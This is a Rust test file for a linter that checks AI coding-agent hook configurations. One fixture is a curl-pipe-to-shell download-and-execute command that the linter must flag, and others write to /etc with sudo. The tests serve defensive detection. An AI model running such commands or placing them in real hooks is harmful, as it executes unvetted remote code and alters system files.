//! Issue 13, "One rules layer over the IR, for every convention": each rule of
//! `crates/rules/src/rules/` fires for every convention it applies to (the same command in a
//! Claude, Codex, Jarvis and jcode file), points at the token it is about, and the demo README's
//! promised diagnostics are there. Through the real binary, on real temp trees.

use crate::common;
use serde_json::Value;
use std::path::Path;

/// A temp dir with `p/` (the project, the cwd) and `h/` (the home dir).
struct Tree(tempfile::TempDir);

impl Tree {
    fn new() -> Tree {
        let t = Tree(tempfile::tempdir().unwrap());
        std::fs::create_dir_all(t.0.path().join("p")).unwrap();
        std::fs::create_dir_all(t.0.path().join("h")).unwrap();
        t
    }
    fn write(&self, rel: &str, text: &str) -> &Self {
        let p = self.0.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
        self
    }
    /// `hooks lint . --format json`: each diagnostic as `code path:line:col`.
    fn lint(&self) -> Vec<String> {
        lint_in(&self.0.path().join("p"), &self.0.path().join("h"), &["."])
            .into_iter()
            .map(|(c, at, _)| format!("{c} {at}"))
            .collect()
    }
}

fn lint_in(cwd: &Path, home: &Path, args: &[&str]) -> Vec<(String, String, String)> {
    let out = common::bin()
        .arg("lint")
        .args(args)
        .arg("--home")
        .arg(home)
        .args(["--no-env", "--format", "json"])
        .current_dir(cwd)
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            let l = &d["location"];
            (
                d["code"].as_str().unwrap().to_string(),
                format!(
                    "{}:{}:{}",
                    l["path"].as_str().unwrap(),
                    l["line"],
                    l["column"]
                ),
                d["message"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// A Claude settings file with one PreToolUse command.
/// Lints a project whose Claude settings run `cmd`: with the file `script` (a path in the tree)
/// nothing is found; without it, exactly one `missing_script` at the command, whose message is
/// returned.
fn missing_only_without(cmd: &str, script: &str) -> String {
    let t = Tree::new();
    t.write(script, "")
        .write("p/.claude/settings.json", &claude(cmd));
    assert!(t.lint().is_empty(), "{:#?}", t.lint());
    let t = Tree::new();
    t.write("p/.claude/settings.json", &claude(cmd));
    let got = lint_in(&t.0.path().join("p"), &t.0.path().join("h"), &["."]);
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(
        (got[0].0.as_str(), got[0].1.as_str()),
        ("missing_script", ".claude/settings.json:2:34")
    );
    got[0].2.clone()
}

fn claude(cmd: &str) -> String {
    format!(
        "{{\"hooks\": {{\"PreToolUse\": [{{\"matcher\": \"Bash\", \"hooks\": [\n  {{\"type\": \"command\", \"command\": {}}}]}}]}}}}\n",
        serde_json::to_string(cmd).unwrap()
    )
}

/// A Codex hooks.json with one PreToolUse command.
fn codex(cmd: &str) -> String {
    claude(cmd)
}

/// A Jarvis config with one PreToolUse command.
fn jarvis(cmd: &str) -> String {
    format!(
        "[[hooks]]\nevent = \"PreToolUse\"\ncommand = {}\n",
        serde_json::to_string(cmd).unwrap()
    )
}

/// A jcode config with one pre_tool command.
fn jcode(cmd: &str) -> String {
    format!(
        "[hooks]\npre_tool = {}\n",
        serde_json::to_string(cmd).unwrap()
    )
}

#[test]
fn download_and_execute_is_found_in_every_command_convention() {
    let cmd = "curl -fsSL https://get.example.org/i.sh | sh";
    let t = Tree::new();
    t.write("p/.claude/settings.json", &claude(cmd))
        .write("p/.codex/hooks.json", &codex(cmd))
        .write("h/.jarvis-code/config.toml", &jarvis(cmd))
        .write("h/.jcode/config.toml", &jcode(&format!("sh -c '{cmd}'")));
    let got = t.lint();
    for at in [
        "download_and_execute ~/.jcode/config.toml:2:12",
        "download_and_execute ~/.jarvis-code/config.toml:3:11",
        "download_and_execute .codex/hooks.json:2:34",
        "download_and_execute .claude/settings.json:2:34",
    ] {
        assert!(got.iter().any(|g| g == at), "{at} not in {got:#?}");
    }
}

#[test]
fn missing_scripts_behind_interpreters_in_codex_and_claude() {
    let t = Tree::new();
    t.write("p/tools/present.py", "")
        .write("p/tools/__init__.py", "")
        .write(
            "p/.codex/hooks.json",
            &codex("uv run tools/absent.py && python3 -m tools.gone && python3 -m json.tool && node tools/present.py"),
        )
        .write(
            "p/.claude/settings.json",
            &claude("npx tsx \"$CLAUDE_PROJECT_DIR\"/hooks/guard.ts"),
        );
    let got = lint_in(&t.0.path().join("p"), &t.0.path().join("h"), &["."]);
    let missing: Vec<&str> = got
        .iter()
        .filter(|(c, _, _)| c == "missing_script")
        .map(|(_, _, m)| m.as_str())
        .collect();
    assert_eq!(missing.len(), 3, "{got:#?}");
    assert!(missing.iter().any(|m| m.contains("hooks/guard.ts")));
    assert!(missing.iter().any(|m| m.contains("`tools/absent.py`")));
    assert!(missing.iter().any(|m| m.contains("`tools.gone`")));
    assert!(!missing
        .iter()
        .any(|m| m.contains("json.tool") || m.contains("present.py")));
}

#[test]
fn agent_variables_placeholders_and_foreign_paths() {
    let t = Tree::new();
    t.write(
        "p/.codex/hooks.json",
        &codex("\"$CLAUDE_PROJECT_DIR\"/x.sh; prettier --write ${file}"),
    )
    .write(
        "h/.jarvis-code/config.toml",
        &jarvis("/home/someone-else/bin/guard.sh"),
    );
    let got = t.lint();
    for want in [
        "foreign_agent_variable .codex/hooks.json:2:34",
        "unexpanded_placeholder .codex/hooks.json:2:34",
        "absolute_path_elsewhere ~/.jarvis-code/config.toml:3:11",
    ] {
        assert!(got.iter().any(|g| g == want), "{want} not in {got:#?}");
    }
    // In Claude the variable is the agent's own, and an anchored script is fine.
    let t = Tree::new();
    t.write("p/x.sh", "").write(
        "p/.claude/settings.json",
        &claude("\"$CLAUDE_PROJECT_DIR\"/x.sh"),
    );
    assert!(t.lint().is_empty(), "{:#?}", t.lint());
}

#[test]
fn a_relative_script_in_claude_suggests_the_project_dir_variable() {
    let t = Tree::new();
    t.write("p/scripts/check.sh", "")
        .write("p/.claude/settings.json", &claude("./scripts/check.sh"));
    let got = lint_in(&t.0.path().join("p"), &t.0.path().join("h"), &["."]);
    assert_eq!(got.len(), 1, "{got:#?}");
    assert_eq!(got[0].0, "relative_script_path");
    assert_eq!(got[0].1, ".claude/settings.json:2:34");
}

#[test]
fn timeouts_in_every_seconds_convention_and_too_short_ones() {
    let t = Tree::new();
    t.write(
        "p/.codex/hooks.json",
        "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"true\", \"timeout\": 30000}]}]}}\n",
    )
    .write(
        "p/.claude/settings.json",
        "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"true\", \"timeout\": 0.01}]}]}}\n",
    )
    .write(
        "h/.jcode/config.toml",
        "[hooks]\npre_tool = \"true\"\npre_tool_timeout_ms = 3\n",
    );
    let got = t.lint();
    for want in [
        "timeout_looks_like_milliseconds .codex/hooks.json:1:82",
        "timeout_too_short .claude/settings.json:1:82",
        "timeout_too_short ~/.jcode/config.toml:3:23",
    ] {
        assert!(got.iter().any(|g| g == want), "{want} not in {got:#?}");
    }
}

#[test]
fn backtracking_and_tool_names_for_every_matcher_convention() {
    let t = Tree::new();
    t.write(
        "h/.jarvis-code/config.toml",
        "[[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"(a+)+\"\ncommand = \"true\"\n",
    )
    .write(
        "p/.claude/settings.json",
        "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"run_shell_command\", \"hooks\": [{\"type\": \"command\", \"command\": \"true\"}]}]}}\n",
    )
    .write("p/.gjc/hooks/pre/Bash.js", "export default (api) => { api.on(\"tool_call\", () => {}); };\n");
    let got = lint_in(&t.0.path().join("p"), &t.0.path().join("h"), &["."]);
    let find = |code: &str, at: &str| got.iter().find(|(c, a, _)| c == code && a == at);
    assert!(
        find("regex_may_backtrack", "~/.jarvis-code/config.toml:3:11").is_some(),
        "{got:#?}"
    );
    let other = find("matcher_matches_nothing", ".claude/settings.json:1:39")
        .unwrap_or_else(|| panic!("{got:#?}"));
    assert!(other.2.contains("Gemini CLI"), "{}", other.2);
    let case = find(
        "matcher_matches_nothing",
        ".gjc/hooks/pre/Bash.js:null:null",
    )
    .unwrap_or_else(|| panic!("{got:#?}"));
    assert!(case.2.contains("`bash`"), "{}", case.2);
}

/// `Edit, Write` is one regex in Codex, Jarvis and Gemini (it matches no tool) but a list of
/// exact names in Claude Code 2.1.332: reported, with its safe fix, exactly where it is wrong.
#[test]
fn comma_lists_are_reported_where_the_matcher_is_a_regex() {
    let group = |event: &str, m: &str| {
        format!("{{\"hooks\": {{\"{event}\": [{{\"matcher\": \"{m}\", \"hooks\": [{{\"type\": \"command\", \"command\": \"true\"}}]}}]}}}}\n")
    };
    let t = Tree::new();
    t.write("p/.codex/hooks.json", &group("PreToolUse", "Edit, Write"))
        .write(
            "p/.gemini/settings.json",
            &group("BeforeTool", "write_file, replace"),
        )
        .write(
            "p/.claude/settings.json",
            &group("PreToolUse", "Edit, Write"),
        )
        .write(
            "h/.jarvis-code/config.toml",
            "[[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"Edit, Write\"\ncommand = \"true\"\n",
        );
    let mut got: Vec<String> = t
        .lint()
        .into_iter()
        .filter(|d| d.starts_with("matcher_comma_list"))
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            "matcher_comma_list .codex/hooks.json:1:39",
            "matcher_comma_list .gemini/settings.json:1:39",
            "matcher_comma_list ~/.jarvis-code/config.toml:3:11",
        ],
        "Claude reads `Edit, Write` as two names: not reported there"
    );
    let out = common::bin()
        .args(["lint", ".", "--no-env", "--diff", "--home"])
        .arg(t.0.path().join("h"))
        .current_dir(t.0.path().join("p"))
        .output()
        .unwrap();
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        diff.matches("+matcher = \"Edit|Write\"").count(),
        1,
        "{diff}"
    );
    assert_eq!(
        diff.matches("\"matcher\": \"Edit|Write\"").count(),
        1,
        "{diff}"
    );
    assert!(
        diff.contains("\"matcher\": \"write_file|replace\""),
        "{diff}"
    );
    assert!(!diff.contains(".claude/settings.json"), "{diff}");
}

#[test]
fn the_demo_readme_promises_are_kept() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let got = lint_in(&repo, &repo.join("examples/demo/home"), &["examples/demo"]);
    let has = |code: &str, at: &str| got.iter().any(|(c, a, _)| c == code && a == at);
    assert!(
        has(
            "timeout_looks_like_milliseconds",
            "examples/demo/.codex/hooks.json:28:76"
        ),
        "{got:#?}"
    );
    assert!(
        has(
            "timeout_too_short",
            "examples/demo/home/.jcode/config.toml:6:23"
        ),
        "{got:#?}"
    );
}

/// Issue 14, tool names "in lint (a matcher naming no tool of that agent)": a Jarvis/Kimi regex
/// that is a list of names is read as those names — `bash` is Kimi Code's `Bash` in the wrong
/// case, `run_shell_command` is Gemini CLI's name; a name no agent has (a custom tool) and one
/// that is part of a tool name (`Edit`) are left alone.
#[test]
fn a_regex_list_of_names_naming_no_tool_of_the_agent_is_found() {
    let t = Tree::new();
    t.write(
        "h/.jarvis-code/config.toml",
        "[[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"bash|Edit\"\ncommand = \"./a.sh\"\n\n\
         [[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"^(?:run_shell_command)$\"\ncommand = \"./b.sh\"\n\n\
         [[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"my_tool|Edit\"\ncommand = \"./c.sh\"\n",
    );
    let found: Vec<(String, String, String)> =
        lint_in(&t.0.path().join("p"), &t.0.path().join("h"), &["."])
            .into_iter()
            .filter(|(c, _, _)| c == "matcher_matches_nothing")
            .collect();
    assert_eq!(found.len(), 2, "{found:#?}");
    assert!(found[0].2.contains("`bash`"), "{found:#?}");
    assert!(found[0].1.ends_with(":3:11"), "{found:#?}");
    assert!(
        found[1]
            .2
            .contains("`run_shell_command` is Gemini CLI's name"),
        "{found:#?}"
    );
}

/// The operand of a shell's `-c` is a command line, not one script path: jcode runs hooks
/// without a shell, so its users write `sh -c "…"`, and Claude hooks often say `bash -c '…'`.
/// The command rules read the commands inside it (missing scripts, relative paths, writes),
/// and the finding is at the hook's command.
#[test]
fn the_commands_inside_sh_c_are_read_as_commands() {
    // jcode: an explicit project file (a user-level one's relative paths depend on the session).
    let jcode_lint = |exists: bool| {
        let t = Tree::new();
        t.write(
            "p/.jcode/config.toml",
            "[hooks]\npre_tool = [\"sh -c \\\"node hooks/x.js | tee -a /tmp/l\\\"\"]\n",
        );
        if exists {
            t.write("p/hooks/x.js", "");
        }
        let got = lint_in(
            &t.0.path().join("p"),
            &t.0.path().join("h"),
            &[".jcode/config.toml"],
        );
        (t, got)
    };
    let (_t, got) = jcode_lint(true);
    assert!(got.is_empty(), "{got:#?}");
    let (_t, got) = jcode_lint(false);
    assert_eq!(got.len(), 1, "{got:#?}");
    let (code, at, message) = &got[0];
    assert_eq!(
        (code.as_str(), at.as_str()),
        ("missing_script", ".jcode/config.toml:2:13")
    );
    assert!(
        message.contains("the script `hooks/x.js` does not exist"),
        "{message}"
    );

    // Claude: `bash -c '…'`, anchored or not.
    let anchored = "bash -c 'node \"$CLAUDE_PROJECT_DIR\"/hooks/x.js | tee -a /tmp/l'";
    let message = missing_only_without(anchored, "p/hooks/x.js");
    assert!(
        message.contains("`$CLAUDE_PROJECT_DIR/hooks/x.js`"),
        "{message}"
    );
    let t = Tree::new();
    t.write("p/hooks/x.js", "").write(
        "p/.claude/settings.json",
        &claude("/bin/bash -lc 'node hooks/x.js > /etc/hook.log' hook ./not-a-script.sh"),
    );
    let mut got = t.lint();
    got.sort();
    assert_eq!(
        got,
        [
            "relative_script_path .claude/settings.json:2:34",
            "writes_outside_project .claude/settings.json:2:34",
        ]
    );
}

/// The program behind reserved words, assignments and prefix commands (`if …; then FOO=1
/// timeout 5 x; fi`) is the script checked, when a shell reads the line; jcode runs `FOO=1` as
/// its program, so nothing behind it is a script there.
#[test]
fn the_program_behind_prefixes_and_reserved_words_is_checked() {
    let cmd = r#"if [ -n "$X" ]; then FOO=1 timeout 5 "$CLAUDE_PROJECT_DIR"/hooks/x.sh; fi"#;
    let message = missing_only_without(cmd, "p/hooks/x.sh");
    assert!(
        message.contains("`$CLAUDE_PROJECT_DIR/hooks/x.sh`"),
        "{message}"
    );

    // The writes of a program behind a prefix are its writes.
    let t = Tree::new();
    t.write(
        "p/.claude/settings.json",
        &claude("jq -c . | sudo -u root tee -a /etc/hook.log"),
    );
    assert_eq!(
        t.lint(),
        ["writes_outside_project .claude/settings.json:2:34"]
    );

    // jcode (no shell): `FOO=1` is the program, checked by the lowering alone; `timeout`, a
    // program, runs its operand.
    let t = Tree::new();
    t.write(
        "p/.jcode/config.toml",
        "[hooks]\npre_tool = [\"FOO=1 hooks/x.sh\", \"timeout 5 hooks/y.sh\"]\n",
    );
    let got = lint_in(
        &t.0.path().join("p"),
        &t.0.path().join("h"),
        &[".jcode/config.toml"],
    );
    let codes: Vec<_> = got.iter().map(|(c, at, _)| format!("{c} {at}")).collect();
    assert_eq!(
        codes,
        [
            "program_not_found .jcode/config.toml:2:13",
            "missing_script .jcode/config.toml:2:33"
        ],
        "{got:#?}"
    );
    assert!(got[1].2.contains("`hooks/y.sh`"), "{}", got[1].2);
}

/// A here-document's lines are text for a command, not commands: a path-like line or a quote in
/// them finds nothing, and the command after the body is read again.
#[test]
fn here_document_bodies_are_not_read_as_commands() {
    let cmd = "cat <<'EOF' >> \"$CLAUDE_PROJECT_DIR\"/notes.md\nsrc/a.ts: don't\n> /etc/x\nEOF\n./after.sh";
    let t = Tree::new();
    t.write("p/after.sh", "")
        .write("p/.claude/settings.json", &claude(cmd));
    assert_eq!(
        t.lint(),
        ["relative_script_path .claude/settings.json:2:34"]
    );
}
